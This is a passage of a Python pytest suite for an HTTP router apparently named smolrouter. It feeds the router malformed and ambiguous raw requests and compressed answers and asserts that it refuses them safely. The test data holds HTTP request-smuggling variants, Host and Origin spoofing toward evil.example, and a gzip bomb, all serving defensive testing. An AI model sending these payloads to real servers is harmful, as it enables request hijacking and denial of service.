        "length of zero and coding": with_coding(CHUNKED_FIELD, b"Content-Length: 0\r\n"),
        "two lengths": with_length(b"16\r\nContent-Length: 20"),
        "one length twice": with_length(b"16\r\nContent-Length: 16"),
        "list of lengths": with_length(b"16, 16"),
        "list of different lengths": with_length(b"16, 20"),
        "signed length": with_length(b"+16"),
        "negative length": with_length(b"-16"),
        "negative zero": with_length(b"-0"),
        "hexadecimal length": with_length(b"0x10"),
        "length with underscore": with_length(b"1_6"),
        "length with a space inside": with_length(b"1 6"),
        "length behind a no-break space": with_length(b"\xa016"),
        "length before a no-break space": with_length(b"16\xa0"),
        "length behind a vertical tab": with_length(b"\x0b16"),
        "length behind a form feed": with_length(b"\x0c16"),
        "length in Arabic digits": with_length("١٦".encode()),
        "length in Latin-1 superscripts": with_length(b"\xb2"),
        "no length in the field": with_length(b""),
        "length with a fraction": with_length(b"16.0"),
        "length with an exponent": with_length(b"1e1"),
        "length with a semicolon": with_length(b"16;"),
        "quoted length": with_length(b'"16"'),
        "length of 19 digits": with_length(b"1" * 19),
        "length padded with zeros": with_length(b"0" * 20 + b"16"),
        "length of 5,000 digits": with_length(b"1" * 5000),
        # transfer codings
        "identity coding": with_coding(b"Transfer-Encoding: identity"),
        "gzip": with_coding(b"Transfer-Encoding: gzip"),
        "gzip, chunked": with_coding(b"Transfer-Encoding: gzip, chunked"),
        "chunked, gzip": with_coding(b"Transfer-Encoding: chunked, gzip"),
        "chunked twice in one field": with_coding(b"Transfer-Encoding: chunked, chunked"),
        "chunked twice in two fields": with_coding(CHUNKED_FIELD, CHUNKED_FIELD + b"\r\n"),
        "chunked and identity": with_coding(CHUNKED_FIELD, b"Transfer-Encoding: identity\r\n"),
        "identity and chunked": with_coding(
            b"Transfer-Encoding: identity", CHUNKED_FIELD + b"\r\n"),
        "xchunked": with_coding(b"Transfer-Encoding: xchunked"),
        "chunked with a parameter": with_coding(b"Transfer-Encoding: chunked;q=1"),
        "chunked with a comma": with_coding(b"Transfer-Encoding: chunked,"),
        "chunked behind a comma": with_coding(b"Transfer-Encoding: ,chunked"),
        "quoted chunked": with_coding(b'Transfer-Encoding: "chunked"'),
        "chunked behind NUL": with_coding(b"Transfer-Encoding: \0chunked"),
        "chunked before a vertical tab": with_coding(b"Transfer-Encoding: chunked\x0b"),
        "chunked before a no-break space": with_coding(b"Transfer-Encoding: chunked\xa0"),
        "empty coding": with_coding(b"Transfer-Encoding:"),
        "coding with a Kelvin sign": with_coding("Transfer-Encoding: chun\u212aed".encode()),
        "coding in HTTP/1.0": with_coding(CHUNKED_FIELD).replace(b"HTTP/1.1", b"HTTP/1.0", 1),
        "coding with a space before the colon": with_coding(b"Transfer-Encoding : chunked"),
        "coding with a tab before the colon": with_coding(b"Transfer-Encoding\t: chunked"),
        "coding behind a space": with_coding(b" Transfer-Encoding: chunked"),
        "coding behind a vertical tab": with_coding(b"\x0bTransfer-Encoding: chunked"),
        "folded coding": with_coding(b"Transfer-Encoding:\r\n chunked"),
        "coding behind a bare LF": with_coding(b"Transfer-Encoding:\n chunked"),
        "coding hidden by a bare CR": with_coding(b"X: a\rTransfer-Encoding: chunked"),
        "coding hidden by a bare LF": with_coding(b"X: a\nTransfer-Encoding: chunked"),
        # chunks
        "no chunk-size": with_chunks(b"\r\n"),
        "chunk-size of letters": with_chunks(b"zz\r\n"),
        "signed chunk-size": with_chunks(b"+" + EVIL_CHUNK + b"0"),
        "negative chunk-size": with_chunks(b"-" + EVIL_CHUNK + b"0"),
        "chunk-size with 0x": with_chunks(b"0x" + EVIL_CHUNK + b"0"),
        "chunk-size with underscore": with_chunks(b"1_0\r\n" + EVIL_CONTENT + b"\r\n0"),
        "chunk-size behind a space": with_chunks(b" " + EVIL_CHUNK + b"0"),
        "chunk-size before a vertical tab": with_chunks(
            EVIL_SIZE + b"\x0b" + EVIL_CHUNK[2:] + b"0"),
        "chunk-size before a no-break space": with_chunks(
            EVIL_SIZE + b"\xa0" + EVIL_CHUNK[2:] + b"0"),
        "chunk-size in Arabic digits": with_chunks("١٠\r\n".encode() + EVIL_CONTENT + b"\r\n0"),
        "chunk-size of 16 digits": with_chunks(b"0" * 14 + EVIL_CHUNK + b"0"),
        "chunk-size beyond 64 bits": with_chunks(b"1" + b"0" * 16 + b"\r\n"),
        "chunk line with a bare LF": with_chunks(EVIL_SIZE + b"\n" + EVIL_CONTENT + b"\r\n0"),
        "chunk line with a bare CR": with_chunks(EVIL_SIZE + b"\r" + EVIL_CONTENT + b"\r\n0"),
        "bare LF in an extension": with_chunks(EVIL_SIZE + b";a\nb\r\n" + EVIL_CONTENT + b"\r\n0"),
        "bare CR in an extension": with_chunks(EVIL_SIZE + b";a\rb\r\n" + EVIL_CONTENT + b"\r\n0"),
        "NUL in an extension": with_chunks(EVIL_SIZE + b";a\0b\r\n" + EVIL_CONTENT + b"\r\n0"),
        "chunk data without an end": with_chunks(EVIL_SIZE + b"\r\n" + EVIL_CONTENT + b"0"),
        "chunk data that ends with LF": with_chunks(EVIL_SIZE + b"\r\n" + EVIL_CONTENT + b"\n0"),
        "chunk data that ends with CR": with_chunks(EVIL_SIZE + b"\r\n" + EVIL_CONTENT + b"\r0"),
        "chunk data with other bytes at its end": with_chunks(
            EVIL_SIZE + b"\r\n" + EVIL_CONTENT + b"XX0"),
        "chunk data longer than its size": with_chunks(b"1\r\n" + EVIL_CONTENT + b"\r\n0"),
        "signed last chunk": with_chunks(EVIL_CHUNK + b"-0"),
        "last chunk with 0x": with_chunks(EVIL_CHUNK + b"0x0"),
        "last chunk of 17 zeros": with_chunks(EVIL_CHUNK + b"0" * 17),
        "folded trailer": with_chunks(EVIL_CHUNK + b"0\r\nA: b\r\n c"),
        "trailer without a colon": with_chunks(EVIL_CHUNK + b"0\r\nnonsense"),
        "trailer with a space before the colon": with_chunks(EVIL_CHUNK + b"0\r\nA : b"),
        "trailer with a bare LF": with_chunks(EVIL_CHUNK + b"0\r\nA: b\nC: d"),
        # fields
        "bare LF ends every line": (
            with_fields(b"A: b\r\n").replace(b"\r\n", b"\n") + b"\r\n\r\n"),
        "bare LF ends one line": with_fields(b"A: b\nC: d\r\n"),
        "bare CR ends one line": with_fields(b"A: b\rC: d\r\n"),
        "bare CR at the end of a value": with_fields(b"A: b\r\r\n"),
        "bare LF before the content": with_fields(b"A: b\n\n"),
        "folded field": with_fields(b"A: b\r\n c\r\n"),
        "folded field with a tab": with_fields(b"A: b\r\n\tc\r\n"),
        "folded first field": with_fields(b"A: b\r\n", b" Host: router\r\n"),
        "space before the colon": with_fields(b"A : b\r\n"),
        "no colon": with_fields(b"nonsense\r\n"),
        "no name": with_fields(b": b\r\n"),
        "space in a name": with_fields(b"A B: c\r\n"),
        "bracket in a name": with_fields(b"A(b): c\r\n"),
        "letter beyond ASCII in a name": with_fields(b"\xc4: c\r\n"),
        "NUL in a name": with_fields(b"A\0: b\r\n"),
        "NUL in a value": with_fields(b"A: b\0c\r\n"),
        "escape in a value": with_fields(b"A: \x1b[2J\r\n"),
        "bell in a value": with_fields(b"A: \x07\r\n"),
        "delete in a value": with_fields(b"A: \x7f\r\n"),
        "two Hosts": with_fields(b"Host: other\r\n"),
        "the same Host twice": with_fields(b"Host: router\r\n"),
        "no Host": with_fields(b"A: b\r\n", b""),
        "Host with a space": with_fields(b"", b"Host: a b\r\n"),
        "Host with a comma": with_fields(b"", b"Host: a, b\r\n"),
        "Host with a path": with_fields(b"", b"Host: router/x\r\n"),
        "Host with a user": with_fields(b"", b"Host: user@router\r\n"),
        "Host with a signed port": with_fields(b"", b"Host: router:+80\r\n"),
        "Host with a port of letters": with_fields(b"", b"Host: router:http\r\n"),
        "Host with a port of six digits": with_fields(b"", b"Host: router:123456\r\n"),
        "Host with two ports": with_fields(b"", b"Host: router:80:80\r\n"),
        "Host with an open bracket": with_fields(b"", b"Host: [::1\r\n"),
        "Host with a bracket behind a name": with_fields(b"", b"Host: router[::1]\r\n"),
        "Host with a zone": with_fields(b"", b"Host: [fe80::1%eth0]\r\n"),
        "Host with a backslash": with_fields(b"", b"Host: router\\evil\r\n"),
        "Host with a query": with_fields(b"", b"Host: router?x\r\n"),
        "Host beyond ASCII": with_fields(b"", b"Host: r\xc3\xb6uter\r\n"),
        "Host with NUL": with_fields(b"", b"Host: router\0.evil\r\n"),
        "Host behind a space before the colon": with_fields(b"", b"Host : router\r\n"),
        "folded Host": with_fields(b"", b"Host:\r\n router\r\n"),
        # request lines
        "no method": with_first_line(b"/v1/EVIL HTTP/1.1"),
        "bracket in the method": with_first_line(b"G(T /v1/EVIL HTTP/1.1"),
        "NUL in the method": with_first_line(b"G\0T /v1/EVIL HTTP/1.1"),
        "letter beyond ASCII in the method": with_first_line(b"G\xc9T /v1/EVIL HTTP/1.1"),
        "two spaces": with_first_line(b"GET  /v1/EVIL HTTP/1.1"),
        "tab for a space": with_first_line(b"GET\t/v1/EVIL HTTP/1.1"),
        "space before the method": with_first_line(b" GET /v1/EVIL HTTP/1.1"),
        "space after the version": with_first_line(b"GET /v1/EVIL HTTP/1.1 "),
        "space in the target": with_first_line(b"GET /v1/EVIL x HTTP/1.1"),
        "NUL in the target": with_first_line(b"GET /v1/EVIL\0 HTTP/1.1"),
        "delete in the target": with_first_line(b"GET /v1/EVIL\x7f HTTP/1.1"),
        "bare CR in the target": with_first_line(b"GET /v1/EVIL\r HTTP/1.1"),
        "bare CR before the version": with_first_line(b"GET /v1/EVIL\rHTTP/1.1"),
        "relative target": with_first_line(b"GET v1/EVIL HTTP/1.1"),
        "user in the authority": with_first_line(b"GET http://user@router/v1/EVIL HTTP/1.1"),
        "no authority": with_first_line(b"GET http:///v1/EVIL HTTP/1.1"),
        "another scheme": with_first_line(b"GET ftp://router/v1/EVIL HTTP/1.1"),
        "a file's scheme": with_first_line(b"GET file:///v1/EVIL HTTP/1.1"),
        "incomplete percent-encoding": with_first_line(b"GET /v1/EVIL%2 HTTP/1.1"),
        "percent-encoding completed by another": with_first_line(
            b"GET /v1/EVIL/%2%65%2%65/x HTTP/1.1"),
        "percent-encoding of letters": with_first_line(b"GET /v1/EVIL%zz HTTP/1.1"),
        "percent-encoding of UTF-16": with_first_line(b"GET /v1/EVIL%u002e HTTP/1.1"),
        "script's scheme": with_first_line(b"GET javascript://router/v1/EVIL HTTP/1.1"),
        "authority alone": with_first_line(b"GET router:80 HTTP/1.1"),
        "CONNECT": with_first_line(b"CONNECT router:443 HTTP/1.1"),
        "asterisk without OPTIONS": with_first_line(b"GET * HTTP/1.1"),
        "fragment in the target": with_first_line(b"GET /v1/EVIL#x HTTP/1.1"),
        "query alone": with_first_line(b"GET ?/v1/EVIL HTTP/1.1"),
        "letters beyond ASCII in the target": with_first_line(b"GET /v1/\xc3\xa9EVIL HTTP/1.1"),
        "tab in the target": with_first_line(b"GET /v1/EVIL\tx HTTP/1.1"),
        "two requests on one line": with_first_line(b"GET /v1/EVIL HTTP/1.1 GET /v1/EVIL HTTP/1.1"),
        "no CR behind the version": b"GET /v1/EVIL HTTP/1.1\nHost: router\r\n\r\n",
        "an answer for a request": b"HTTP/1.1 200 OK\r\nContent-Length: 0\r\nX: EVIL\r\n\r\n",
        "Redis": b"*1\r\n$4\r\nEVIL\r\n\r\n",
        "SSH": b"SSH-2.0-EVIL\r\n\r\n",
        "PROXY protocol": b"PROXY TCP4 192.0.2.1 192.0.2.2 1 2\r\n" + with_first_line(
            b"GET /v1/EVIL HTTP/1.1"),
        "binary PROXY protocol": b"\r\n\r\n\0\r\nQUIT\n\x21\x11\0\x0cEVIL",
        "no target": with_first_line(b"GET HTTP/1.1"),
        "TLS": b"\x16\x03\x01\x00\xee\x01\x00\x00\xea\x03\x03EVIL\r\n\r\n",
        "noise": b"\xff\xfe\xfd EVIL\r\n\r\n",
    }.items()
} | {
    # versions
    "HTTP/0.9": (b"GET /v1/EVIL\r\n\r\n", {400, 505}),
    "HTTP/0.9, a line alone": (b"GET /v1/EVIL\r\n", {400}),
    "two Authorizations": (
        b"POST /v1/EVIL HTTP/1.1\r\nHost: a\r\nAuthorization: Bearer a\r\n"
        b"authorization: Bearer b\r\n\r\n", {400}),
    "named HTTP/0.9": (with_first_line(b"GET /v1/EVIL HTTP/0.9"), {400, 505}),
    "HTTP/2 preface": (b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n", {400, 505}),
    "HTTP/2.0": (with_first_line(b"GET /v1/EVIL HTTP/2.0"), {505}),
    "HTTP/3.0": (with_first_line(b"GET /v1/EVIL HTTP/3.0"), {505}),
    "version in lower case": (with_first_line(b"GET /v1/EVIL http/1.1"), {400, 505}),
    "version without a minor": (with_first_line(b"GET /v1/EVIL HTTP/1"), {400, 505}),
    "version with a third part": (with_first_line(b"GET /v1/EVIL HTTP/1.1.1"), {400, 505}),
    "version with more digits": (with_first_line(b"GET /v1/EVIL HTTP/1.10"), {400, 505}),
    "version in Arabic digits": (with_first_line("GET /v1/EVIL HTTP/١.١".encode()), {400, 505}),
    "another protocol": (with_first_line(b"GET /v1/EVIL ICY/1.1"), {400, 505}),
    # sizes
    "endless target": (with_first_line(b"GET /v1/EVIL" + b"a" * 20_000 + b" HTTP/1.1"), {414}),
    "very endless target": (with_first_line(b"GET /v1/EVIL" + b"a" * 200_000), {414}),
    "endless method": (with_first_line(b"G" * 20_000 + b" /v1/EVIL HTTP/1.1"), {400, 414, 501}),
    "one large field": (with_fields(b"A: " + b"b" * 17_000 + b"\r\n"), {431}),
    "one very large field": (with_fields(b"A: " + b"b" * 200_000 + b"\r\n"), {431}),
    "one large name": (with_fields(b"A" * 17_000 + b": b\r\n"), {400, 431}),
    "large fields together": (with_fields((b"A: " + b"b" * 8000 + b"\r\n") * 9), {431}),
    "many small fields": (with_fields(b"A: b\r\n" * 129), {431}),
    "very many small fields": (with_fields(b"A:\r\n" * 30_000), {431}),
    "long chunk extension": (with_chunks(EVIL_SIZE + b";" + b"a" * 2000 + b"\r\n"), {400, 431}),
    "endless chunk extension": (with_chunks(EVIL_SIZE + b";" + b"a" * 200_000), {400, 431}),
    "many chunk extensions": (
        with_chunks((b"1;" + b"a" * 900 + b"\r\n \r\n") * 40 + b"0"), {400, 431}),
    "long trailers": (
        with_chunks(EVIL_CHUNK + b"0\r\n" + (b"A: " + b"b" * 900 + b"\r\n") * 12), {400, 431}),
    "content too large": (with_length(b"9" * 18), {413}),
}  # fmt: skip


REFUSED_HEADS = {
    "target": b"HEAD x HTTP/1.1\r\nHost: a\r\n\r\n",
    "Host": b"HEAD / HTTP/1.1\r\n\r\n",
    "version": b"HEAD /\r\n",
    "two Authorizations": b"HEAD / HTTP/1.1\r\nHost: a\r\n" + b"Authorization: b\r\n" * 2 + b"\r\n",
    "line end": b"HEAD / HTTP/1.1\nHost: a\r\n\r\n",
    "target's length": b"HEAD /" + b"a" * 20_000 + b" HTTP/1.1\r\nHost: a\r\n\r\n",
    "fields' length": b"HEAD / HTTP/1.1\r\nHost: a\r\n" + b"A: b\r\n" * 30_000 + b"\r\n",
    "path": b"HEAD /nowhere HTTP/1.1\r\nHost: a\r\n\r\n",
    "method": b"HEAD /api/chat HTTP/1.1\r\nHost: a\r\n\r\n",
    "model": b"HEAD /v1/models/nobody HTTP/1.1\r\nHost: a\r\n\r\n",
    "origin": b"HEAD / HTTP/1.1\r\nHost: a\r\nOrigin: https://evil.example\r\n\r\n",
    "Web UI's Host": b"HEAD /api/logs HTTP/1.1\r\nHost: evil.example\r\n\r\n",
}


@pytest.mark.parametrize("data", REFUSED_HEADS.values(), ids=REFUSED_HEADS)
def test_a_refused_head_gets_no_content(data: bytes) -> None:
    """Not even one octet of it: it would be read as the next answer."""
    closing = data.replace(b"\r\n\r\n", b"\r\nConnection: close\r\n\r\n")
    top, end, content = send_raw(default_router().port, closing, answers=0).partition(b"\r\n\r\n")
    assert re.match(rb"HTTP/1\.1 4\d\d ", top)
    assert int(dict(parse_head(top)[1])["Content-Length"]) > 0
    assert (end, content) == (b"\r\n\r\n", b"")


def test_a_head_that_never_ends_gets_no_content() -> None:
    router = shared_router(
        {"DEFAULT_UPSTREAM": default_upstream().url}, limits={"head_timeout": 0.5}
    )
    for pieces in ((b"HEAD / HTTP/1.1\r\nHo",), (b"HEA", 0.2, b"D / HTTP/1.1\r\n")):
        got = send_raw(router.port, *pieces, answers=0)
        assert got.startswith(b"HTTP/1.1 408 ") and got.endswith(b"\r\n\r\n")


@pytest.mark.parametrize("name", MALFORMED)
def test_malformed_request(name: str) -> None:
    data, statuses = MALFORMED[name]
    # The mark is as long as the word EVIL that it replaces: lengths stay what they are.
    mark = f"~{list(MALFORMED).index(name):03}"
    got = send_raw(default_router().port, data.replace(b"EVIL", mark.encode()), answers=0)
    answers, rest = split_responses(got)
    assert [a.status for a in answers if a.status not in statuses] == []
    # There is one answer, and the connection was closed after it.
    assert (len(answers), rest) == (1, b"")
    assert answers[0].get("Connection") == "close"
    assert not default_upstream().requests_for(mark)
    assert request(default_router().port, "GET", "/v1/fine").status == 200


@pytest.mark.parametrize(
    "data",
    {
        "in the request line": b"POST /v1/EV",
        "in the fields": EVIL_HEAD + b"Content-Le",
        "before the content": EVIL_HEAD + b"Content-Length: 16\r\n\r\n",
        "in the content": EVIL_HEAD + b"Content-Length: 16\r\n\r\n" + EVIL_CONTENT[:-1],
        "in a chunk-size": EVIL_HEAD + CHUNKED_FIELD + b"\r\n\r\n1",
        "in a chunk": EVIL_HEAD + CHUNKED_FIELD + b"\r\n\r\n" + EVIL_CHUNK[:9],
        "before the last chunk": EVIL_HEAD + CHUNKED_FIELD + b"\r\n\r\n" + EVIL_CHUNK,
        "in the trailers": EVIL_HEAD + CHUNKED_FIELD + b"\r\n\r\n" + EVIL_CHUNK + b"0\r\n",
    }.items(),
    ids=lambda item: item[0],
)
def test_truncated_request(data: tuple[str, bytes]) -> None:
    mark = f"~{len(data[1]):03}"
    with connect(default_router().port) as sock:
        sock.sendall(data[1].replace(b"EVIL", mark.encode()))
        sock.shutdown(socket.SHUT_WR)
        answers, _ = split_responses(exchange(sock, answers=0))
    assert [a.status for a in answers] in ([], [400])
    assert request(default_router().port, "GET", "/v1/fine").status == 200
    assert not default_upstream().requests_for(mark)


def test_a_client_of_https_is_told_that_this_is_http() -> None:
    handshake = ssl.MemoryBIO()
    client = ssl.create_default_context().wrap_bio(ssl.MemoryBIO(), handshake, False, "router")
    with pytest.raises(ssl.SSLWantReadError):
        client.do_handshake()
    (answer,), _ = split_responses(send_raw(default_router().port, handshake.read(), answers=0))
    assert answer.status == 400
    assert "speaks http, not https" in answer.json["error"]["message"]


def test_limits_that_must_work() -> None:
    target = "/v1/" + "a" * (8000 - len("GET /v1/ HTTP/1.1"))
    many = [(f"X-{n}", str(n)) for n in range(88)]  # 90 with Host and Connection
    for fields in ([], many, [("X-Large", "b" * 8000)]):
        asked = encode_get(target, [*fields, ("Connection", "close")])
        got = parse_response(send_raw(default_router().port, asked, answers=0))
        assert got.json["target"] == target
    heard = default_upstream().requests_for(target)
    assert [heard[1].get(name) for name, _ in many] == [value for _, value in many]


# Fields with which each of these is still one request, however somebody may want to read it.
SPLITS = {
    "h2c upgrade": [
        ("Upgrade", "h2c"),
        ("HTTP2-Settings", "AAMAAABkAAQAAP__"),
        ("Connection", "Upgrade, HTTP2-Settings"),
    ],
    "web socket": [("Upgrade", "websocket"), ("Connection", "Upgrade")],
    "Expect of something else": [("Expect", "the-unexpected")],
    "method override": [("X-HTTP-Method-Override", "DELETE")],
    "path override": [("X-Original-URL", "/v1/EVIL"), ("X-Rewrite-URL", "/v1/EVIL")],
    "Connection hides the length": [("Connection", "Content-Length")],
    "Connection hides the coding": [("Connection", "Transfer-Encoding")],
    "Connection hides Host": [("Connection", "Host")],
    "Keep-Alive with a close": [("Connection", "close, keep-alive")],
    "lengths of other names": [("Content_Length", "99"), ("X-Content-Length", "99")],
    "codings of other names": [("X-Transfer-Encoding", "chunked"), ("TE", "chunked")],
    "Trailer": [("Trailer", "Content-Length, Transfer-Encoding")],
    "chain of proxies": [("Via", "1.1 a, 1.0 b"), ("Forwarded", "for=1.2.3.4;host=evil")],
    "another Host behind": [("X-Forwarded-Host", "evil.example")],
}


@pytest.mark.parametrize("name", SPLITS)
def test_one_request_stays_one(name: str) -> None:
    """The content itself is a request; nobody may take it for one."""
    mark = default_upstream().add_script(FINE_RESPONSE)
    content = mark.encode() + b"\r\n\r\n" + encode_get(f"/v1/{mark}-inner")
    top = encode_request("POST", "/v1/other", content, SPLITS[name])
    top = top.replace(b"application/json", b"text/plain")
    with connect(default_router().port) as sock:
        assert parse_response(exchange(sock, top)).status == 200
    (heard,) = default_upstream().requests_for(mark)
    assert (heard.target, heard.content, heard.framing) == ("/v1/other", content, "length")
    assert heard.get("Upgrade") is None and heard.get_all("Host") == [default_upstream().authority]
    assert not default_upstream().requests_for("/v1/EVIL")


TARGETS = [
    "/v1/files?limit=2&after=x",
    "/v1/q?a=b%20c&d=%2F..%2f&e",
    "/v1/files/a%20b",
    "/v1/a;b=c?x=?y/../z",
    "/v1/x?http://a/b",
    "/v1/caf%C3%A9?%ff",
    "/v1/a+b?a+b",
    "/v1/files/file-1/content",
]


@pytest.mark.parametrize("target", TARGETS)
def test_target_survives(target: str) -> None:
    assert request(default_router().port, "GET", target).json["target"] == target


def test_query_of_a_post_survives() -> None:
    name = default_upstream().add_script(FINE_RESPONSE)
    request(default_router().port, "POST", f"{CHAT}?api-version=1&x=%20", chat_document(name))
    assert default_upstream().requests_for(name)[0].target == f"{CHAT}?api-version=1&x=%20"


def test_absolute_form_never_chooses_the_upstream() -> None:
    name = default_upstream().add_script(FINE_RESPONSE)
    data = b"GET http://elsewhere.example:81/v1/%s?q=1 HTTP/1.1\r\nHost: b\r\n\r\n"
    assert parse_response(send_raw(default_router().port, data % name.encode())).status == 200
    (heard,) = default_upstream().requests_for(name)
    assert heard.target == f"/v1/{name}?q=1"
    assert heard.get_all("Host") == [default_upstream().authority]


# --- content codings ------------------------------------------------------------------

CODINGS: dict[str, Callable[[bytes], bytes]] = {
    "gzip": gzip.compress,
    "deflate": zlib.compress,
}


@pytest.mark.parametrize("coding", CODINGS)
def test_compressed_answer_is_decoded(coding: str) -> None:
    content = encode_json(completion({}, "<think>no</think>yes"))
    packed = whole_response(
        CODINGS[coding](content),
        200,
        [("Content-Encoding", coding)],
        "application/json",
    )
    got = post_chat(default_router(), default_upstream().add_script(packed))
    assert got.text == "yes"
    assert got.get("Content-Encoding") is None


def test_compressed_stream_is_decoded_event_by_event() -> None:
    gate = threading.Event()
    packer = zlib.compressobj(wbits=31)

    def pack(data: bytes) -> bytes:
        return packer.compress(data) + packer.flush(zlib.Z_SYNC_FLUSH)

    def script(received: Received) -> Iterator[Step]:
        fields = [("Content-Encoding", "gzip")]
        yield from stream_response([pack(encode_event({"n": 1}))], fields, whole=False)
        gate.wait(PATIENCE)
        yield from encode_chunks(pack(encode_event({"n": 2})) + packer.flush())

    with connect(default_router().port) as sock:
        sock.sendall(
            encode_post(CHAT, chat_document(default_upstream().add_script(script), stream=True))
        )
        assert read_until(sock, b'{"n":1}')
        gate.set()
        assert read_until(sock, b'{"n":2}', b"0\r\n\r\n")


@pytest.mark.parametrize("damage", [b"", b"\x00" * 9])
def test_damaged_gzip_never_ends_clean(damage: bytes) -> None:
    packed = gzip.compress(encode_json(completion({}, "word " * 999)))[:-20] + damage
    fields = [("Content-Encoding", "gzip")]
    got = post_chat(
        default_router(),
        default_upstream().add_script(whole_response(packed, 200, fields, "application/json")),
    )
    assert is_visibly_broken(got)


PLAIN = encode_json(completion({}, "<think>no</think>yes"))
half = len(PLAIN) // 2
CODED_ANSWERS = {
    "gzip": ("gzip", gzip.compress(PLAIN)),
    "two members": ("gzip", gzip.compress(PLAIN[:half]) + gzip.compress(PLAIN[half:])),
    "zlib": ("deflate", zlib.compress(PLAIN)),
    "bare deflate": ("deflate", zlib.compress(PLAIN)[2:-4]),
    "with identity": ("identity, ,GZIP", gzip.compress(PLAIN)),
    "on a second line": ("identity\r\nContent-Encoding: gzip", gzip.compress(PLAIN)),
    "after an empty line": ("\r\nContent-Encoding: gzip", gzip.compress(PLAIN)),
    "zeros after it": ("gzip", gzip.compress(PLAIN) + bytes(512)),
    "half a member's start after it": ("gzip", gzip.compress(PLAIN) + b"\x1f"),
    "members that are empty": ("gzip", gzip.compress(PLAIN) + gzip.compress(b"") * 999),
    "octets after zlib": ("deflate", zlib.compress(PLAIN) + gzip.compress(b"x")),
}


@pytest.mark.parametrize("coding, content", CODED_ANSWERS.values(), ids=CODED_ANSWERS.keys())
def test_coded_answer_is_read(coding: str, content: bytes) -> None:
    steps = whole_response(content, 200, [("Content-Encoding", coding)], "application/json")
    got = post_chat(default_router(), default_upstream().add_script(steps))
    assert (got.text, got.get("Content-Encoding")) == ("yes", None)


def test_members_of_gzip_may_be_cut_anywhere() -> None:
    members = gzip.compress(b"a") + gzip.compress(b"") + gzip.compress(b"b") + b"\x1frest"
    for at in range(len(members)):
        inflater = smolrouter.Inflater("gzip", 2)
        assert inflater.feed(members[:at]) + inflater.feed(members[at:]) == b"ab"
        assert inflater.decoder.eof


def test_too_long_an_answer_is_refused_with_the_limit_that_it_is_over() -> None:
    inflater = smolrouter.Inflater("gzip", 5)
    assert inflater.feed(gzip.compress(b"abc")) == b"abc"
    with pytest.raises(smolrouter.BadGateway, match="more than 5 bytes"):
        inflater.feed(gzip.compress(b"def"))


def test_what_follows_gzip_is_not_kept() -> None:
    gzipped = gzip.compress(encode_event(FINISH))
    steps = stream_response([gzipped, *[b"x" * (1 << 20)] * 40], [("Content-Encoding", "gzip")])
    with router_and_upstream() as (router, upstream):
        got = request(
            router.port, "POST", CHAT, chat_document(upstream.add_script(steps), stream=True)
        )
        assert got.content == encode_event(FINISH)
        assert memory_mib(router, "VmHWM") < 70


UNKNOWN_CODINGS = ("br", "zstd", "gzip, gzip", "gzip\r\nContent-Encoding: br", "y" * 9999)


@pytest.mark.parametrize("coding", UNKNOWN_CODINGS, ids=range(len(UNKNOWN_CODINGS)))
@pytest.mark.parametrize("stream", [False, True])
@pytest.mark.parametrize("status", [200, 429])
def test_coding_that_nobody_takes_off(coding: str, stream: bool, status: int) -> None:
    """A client of the same dialect gets it as it is, one of another an error that says why."""
    kind = "text/event-stream" if stream else "application/json"
    model = default_upstream().add_script(
        whole_response(b"coded", status, [("Content-Encoding", coding)], kind)
    )
    same = post_chat(default_router(), model, stream=stream)
    assert (same.status, same.content) == (status, b"coded")
    assert [v for n, v in same.fields if n == "Content-Encoding"] == [
        value.strip() for value in coding.split("\r\nContent-Encoding:")
    ]
    got = request(default_router().port, "POST", "/api/chat", chat_document(model, stream=stream))
    assert got.status == 502 and f"status {status}" in got.json["error"]
    assert coding[:2] in got.json["error"] and len(got.content) < 300


@pytest.mark.parametrize("status", [200, 204, 304])
@pytest.mark.parametrize("kind", ["application/json", "text/event-stream"])
def test_coded_nothing_is_nothing(status: int, kind: str) -> None:
    length = [] if status == 204 else [("Content-Length", "0")]
    fields = [("Content-Type", kind), ("Content-Encoding", "gzip"), *length]
    got = post_chat(
        default_router(),
        default_upstream().add_script([response_head(status, fields)]),
        stream="event" in kind,
    )
    assert (got.status, got.content, got.whole) == (status, b"", True)


def test_kept_answer_is_read_over_all_lines_of_its_coding() -> None:
    fields = [("Content-Encoding", "gzip"), ("Content-Encoding", "identity")]
    model = default_upstream().add_script(
        whole_response(gzip.compress(PLAIN), 200, fields, "application/json")
    )
    assert post_chat(logging_router(), model).text == "yes"
    assert wait_for_detail(logging_router(), model)["response_body"] == PLAIN.decode()


def test_coded_answer_that_is_huge_without_its_coding_is_refused() -> None:
    content = gzip.compress(b'{"choices":[],"x":"' + b"<" * (40 << 20) + b'"}')
    steps = whole_response(content, 200, [("Content-Encoding", "gzip")], "application/json")
    got = post_chat(default_router(), default_upstream().add_script(steps))
    assert got.status == 502 and "decodes to more than" in got.json["error"]["message"]


@functools.cache
def bomb() -> bytes:
    """Compress 128 MiB of zeros, which gzip makes very small."""
    packer = zlib.compressobj(1, zlib.DEFLATED, 31)
    piece = bytes(1 << 20)
    return b"".join(packer.compress(piece) for _ in range(128)) + packer.flush()


@pytest.mark.parametrize("kind, path, stream", [
    ("application/json", CHAT, False), ("application/json", "/api/chat", False),
    ("text/event-stream", CHAT, True),
])  # fmt: skip
def test_gzip_bomb(kind: str, path: str, stream: bool) -> None:
    fields = [("Content-Encoding", "gzip")]
    with router_and_upstream() as (router, upstream):
        model = upstream.add_script(whole_response(bomb(), fields=fields, kind=kind))
        got = request(router.port, "POST", path, chat_document(model, stream=stream))
        as_it_is = got.get("Content-Encoding") == "gzip" and got.content == bomb()
        assert as_it_is or is_visibly_broken(got)
        assert post_chat(router, "tiny").status == 200
        assert memory_mib(router, "VmHWM") < 160


# --- content codings of requests ------------------------------------------------------


def bare_deflate(data: bytes) -> bytes:
    """Compress without zlib's head and check sum, as some clients do."""
    packer = zlib.compressobj(wbits=-zlib.MAX_WBITS)
    return packer.compress(data) + packer.flush()


REQUEST_CODINGS: list[tuple[str, Callable[[bytes], bytes]]] = [
    ("gzip", gzip.compress),
    ("X-GZIP", gzip.compress),
    ("deflate", zlib.compress),
    ("deflate", bare_deflate),
]
if sys.version_info >= (3, 14):
    REQUEST_CODINGS.append(("zstd", importlib.import_module("compression.zstd").compress))


def test_coded_requests_are_decoded() -> None:
    for coding, compress in REQUEST_CODINGS:
        for text in (b"", b"{}", os.urandom(9000), bytes(5 << 20), b'{"model": "\\u00e9"}' * 999):
            coded = compress(text)
            decode = smolrouter.decode_request_content
            assert decode(coded, coding.lower(), len(text)) == text
            # It has to be whole, and nothing may follow it.
            last = range(1, len(coded)) if len(coded) < 100 else (1, len(coded) // 2)
